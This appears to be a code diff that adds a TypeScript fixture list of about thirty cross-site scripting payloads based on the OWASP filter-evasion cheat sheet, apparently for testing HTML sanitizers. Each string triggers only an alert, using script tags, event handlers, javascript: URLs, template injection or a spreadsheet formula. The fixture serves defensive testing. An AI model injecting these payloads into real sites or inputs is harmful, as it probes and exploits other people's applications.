@@ -1,0 +1,37 @@
+/**
+ * Texts that run a script where text is taken for HTML, an attribute, an address or a formula. Each calls `alert`.
+ * Kinds after the OWASP Cheat Sheet Series, "XSS Filter Evasion": cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
+ */
+export const xssPayloads: readonly string[] = [
+  "<script>alert(1)</script>",
+  "</script><script>alert(1)</script>",
+  "<!--<script>--><script>alert(1)</script>",
+  "<SCRIPT/XSS SRC=data:text/javascript,alert(1)></SCRIPT>",
+  "<<SCRIPT>alert(1);//<</SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
+  "<svg onload=alert(1)>",
+  "<svg><script>alert&#40;1&#41;</script>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<body onload=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<video><source onerror=alert(1)>",
+  '<a href="javascript:alert(1)">here</a>',
+  '<a href="jav&#x09;ascript:alert(1);">here</a>',
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<style>@import'data:text/css,';</style><img src=x onerror=alert(1)>",
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
+  "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
+  '"><img src=x onerror=alert(1)>',
+  "javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "${alert(1)}{{constructor.constructor('alert(1)')()}}",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "\u2028alert(1)//",
+  '=HYPERLINK("javascript:alert(1)","here")',
+];
